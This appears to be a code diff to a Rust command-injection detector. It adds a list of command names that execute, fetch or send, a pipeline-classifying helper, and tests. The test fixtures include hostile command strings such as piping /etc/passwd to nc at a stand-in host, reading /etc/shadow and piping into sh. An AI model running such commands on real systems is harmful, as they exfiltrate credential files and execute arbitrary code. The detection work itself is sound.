@@ -166,6 +166,103 @@ const WORDY: &[&str] = &[
     "dir", "export", "history", "mount", "route", "ver", "vol", "su", "ps", "env", "exec", "eval",
 ];
 
+/// Commands that run, fetch, send or reveal: joined to another command they are still an
+/// attack's second half (`cat /etc/passwd | nc`, `ls && whoami`).
+const EXECUTES: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "cmd",
+    "cmd.exe",
+    "powershell",
+    "powershell.exe",
+    "pwsh",
+    "perl",
+    "python",
+    "python2",
+    "python3",
+    "php",
+    "ruby",
+    "lua",
+    "node",
+    "curl",
+    "wget",
+    "ftp",
+    "tftp",
+    "scp",
+    "ssh",
+    "mail",
+    "sendmail",
+    "nslookup",
+    "dig",
+    "ping",
+    "whoami",
+    "id",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "systeminfo",
+    "tasklist",
+    "hostname",
+    "sleep",
+    "timeout",
+    "eval",
+    "exec",
+    "base64",
+    "xxd",
+    "openssl",
+    "certutil",
+    "bitsadmin",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "iex",
+    "iwr",
+    "invoke-webrequest",
+    "invoke-expression",
+    "rm",
+    "chmod",
+    "mkfifo",
+    "crontab",
+    // Readers given a file: the second half of `... | cat /etc/shadow`.
+    "cat",
+    "tac",
+    "type",
+];
+
+/// Whether the text before the separator at `i` is itself a command line: its last clause
+/// (after a line break, `;`, a backtick, `(`, or `: ` in a sentence) starts with a known
+/// command.
+fn command_before(lower: &str, i: usize) -> bool {
+    let head = &lower[..i];
+    let clause_start = head
+        .rfind(['\n', ';', '`', '(', '|', '&'])
+        .map_or(0, |p| p + 1)
+        .max(head.rfind(": ").map_or(0, |p| p + 2));
+    let clause = head[clause_start..].trim_start();
+    let offset = head.len() - clause.len();
+    if command_at(lower, offset).is_some_and(|(_, end)| end <= i) {
+        return true;
+    }
+    // A tool this list does not know, run with options: `git log --oneline`.
+    let mut words = clause.split_whitespace();
+    let program = words.next().is_some_and(|w| {
+        w.bytes().next().is_some_and(|b| b.is_ascii_lowercase())
+            && w.bytes()
+                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'_')
+    });
+    program && words.any(|w| w.starts_with('-') && w.len() > 1)
+}
+
 /// Whether `name` is a known command (one hash lookup; the list is long).
 fn is_command(name: &str) -> bool {
     static SET: std::sync::OnceLock<rustc_hash::FxHashSet<&'static str>> =
@@ -349,6 +446,19 @@ pub fn detect(lower: &str, out: &mut Vec<Finding>) {
                 (1, true, _) => Some((Severity::Medium, 0.45)),
                 _ => None,
             };
+            // Two commands joined (`ps aux | grep nginx`, `apt-get update && apt-get install`)
+            // are a command line someone is talking about, when the second one only filters or
+            // carries on: an injection joins a command to data (`127.0.0.1 && whoami`), or
+            // hands the first one's output to something that runs or sends it (`| nc`, `| sh`).
+            let between_commands =
+                matches!(c, b'|' | b'&') && !EXECUTES.contains(&name) && command_before(lower, i);
+            let finding = finding.map(|(severity, confidence)| {
+                if between_commands {
+                    (Severity::Medium, 0.45)
+                } else {
+                    (severity, confidence)
+                }
+            });
             if let Some((severity, confidence)) = finding {
                 keep(Finding::new(
                     ThreatType::CommandInjection,
@@ -836,6 +946,33 @@ mod tests {
                 severity(prose).is_none_or(|s| s < Severity::High),
                 "{prose:?}"
             );
+        }
+    }
+
+    #[test]
+    fn a_pipeline_being_discussed_is_not_an_injection() {
+        for prose in [
+            "ps aux | grep nginx shows nothing, why?",
+            "Please review: docker ps -a | grep exited",
+            "I ran `cat /var/log/syslog | tail -n 50` and saw errors",
+            "sudo apt-get update && sudo apt-get install -y nginx",
+            "git log --oneline | head -5",
+        ] {
+            assert!(
+                severity(prose).is_none_or(|s| s < Severity::High),
+                "{prose:?}: {:?}",
+                severity(prose)
+            );
+        }
+        for attack in [
+            "127.0.0.1 && whoami",
+            "cat /etc/passwd | nc evil.example 4444",
+            "ls -la | sh",
+            "x | cat /etc/passwd",
+            "ping -c 1 127.0.0.1 && id",
+            "foo -x | cat /etc/shadow > /tmp/x",
+        ] {
+            assert_eq!(severity(attack), Some(Severity::High), "missed {attack:?}");
         }
     }
 
